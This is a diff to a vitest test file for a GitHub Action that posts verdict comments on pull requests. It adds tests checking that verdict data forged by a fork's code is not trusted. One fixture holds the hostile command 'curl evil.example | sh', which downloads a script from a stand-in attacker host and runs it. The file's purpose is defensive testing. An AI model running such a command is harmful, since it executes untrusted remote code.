@@ -1,6 +1,7 @@
-import { rmSync, writeFileSync } from 'node:fs';
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
 import { legName, messagesFile, storeFile, verdictFile } from '../../src/github/artifacts/artifact-names.ts';
 import { decodeState } from '../../src/report/markdown/comment-state.ts';
 import type { Verdict } from '../../src/verdict/verdict.ts';
@@ -8,6 +9,7 @@ import { aReason, aVerdict } from '../report/verdicts.ts';
 import { bundleEntry } from '../support/bundled-entry.ts';
 import type { RunArtifact } from '../support/github-api.ts';
 import {
+  commentEvent,
   forkRunEvent,
   HEAD_SHA,
   REPOSITORY,
@@ -55,6 +57,8 @@ describe('the last job of a matrix', () => {
     const { status, stdout, outputs, summary } = await join({ INPUT_EXPECT: '2' });
     expect([status, stdout.match(/::error.*/g)]).toEqual([0, null]);
     expect(outputs).toMatchObject({ outcome: 'pass', passed: 'true', total: '2' });
+    const action = parse(readFileSync('report/action.yml', 'utf8'));
+    expect(Object.keys(outputs).sort()).toEqual(Object.keys(action.outputs).sort());
     expect(outputs['comment-url']).toContain('/pull/7#issuecomment-');
     expect(run.github.comments).toHaveLength(1);
     expect(run.github.comments[0]?.body).toContain('all 2 pass');
@@ -102,6 +106,58 @@ describe('the last job of a matrix', () => {
     const { status, stdout } = await join({ INPUT_EXPECT: '-3' });
     expect(status).toBe(1);
     expect(stdout).toContain('expect: found "-3"; write a number of rows, or their keys');
+  });
+});
+
+describe('the last job of a run that a comment on a pull request of a fork has started', () => {
+  const join = (inputs: Readonly<Record<string, string>> = {}): Promise<StepResult> =>
+    run.step(report, {
+      job: 'report',
+      event: commentEvent(),
+      env: { ...INPUTS, GITHUB_SHA: 'e'.repeat(40), GITHUB_REF: 'refs/heads/main', ...inputs },
+    });
+  const claimed = {
+    outcome: 'fail',
+    reasons: [aReason()],
+    run: { id: 1, number: 999_999, attempt: 77 },
+    base: { metrics: { 'net.servers.msgs-per-op': 1 } },
+    reproduce: ['1-echo', '--command', 'curl evil.example | sh'],
+  } as const;
+  const writtenByForeignCode = async (over: Partial<Verdict> = {}): Promise<void> => {
+    run.github.pullRequests.splice(0, 1, {
+      number: 7,
+      headSha: HEAD_SHA,
+      headRef: 'topic',
+      headRepository: 'someone/gossip',
+      baseRef: 'main',
+      state: 'open',
+    });
+    await leaveVerdict(aVerdict({ ...claimed, ...over }));
+    // What `publish` puts there itself, code of the fork can replace.
+    const blob = run.artifacts[0]?.blob ?? '';
+    const left = JSON.parse(run.actions.blobs.committed.get(blob)?.toString() ?? '');
+    const bytes = Buffer.from(JSON.stringify({ ...left, run: claimed.run, headSha: 'f'.repeat(40) }));
+    run.actions.blobs.committed.set(blob, bytes);
+  };
+
+  it('comments there, and believes neither run, commit, base branch nor command of a verdict', async () => {
+    await writtenByForeignCode();
+    const { status, outputs } = await join();
+    expect(status).toBe(1);
+    expect(outputs['comment-url']).toContain('/pull/7#issuecomment-');
+    expect(outputs['outcome']).toBe('fail');
+    const [row] = decodeState(run.github.comments[0]?.body ?? '');
+    expect(row).toMatchObject({ run: { id: 1001, number: 12, attempt: 1 }, headSha: HEAD_SHA });
+    expect(row?.base).toBeUndefined();
+    expect(row?.detail?.reasons).toHaveLength(1);
+    expect(row?.detail?.reproduce).toBeUndefined();
+    expect(run.github.comments[0]?.body).not.toContain('evil.example');
+  });
+
+  it('shows a command that we could have written', async () => {
+    await writtenByForeignCode({ reproduce: ['1-echo', '--bin', 'dist/echo.js'] });
+    await join();
+    expect(run.github.comments[0]?.body).toContain('npx maelstrom-action run 1-echo --bin dist/echo.js');
   });
 });
 
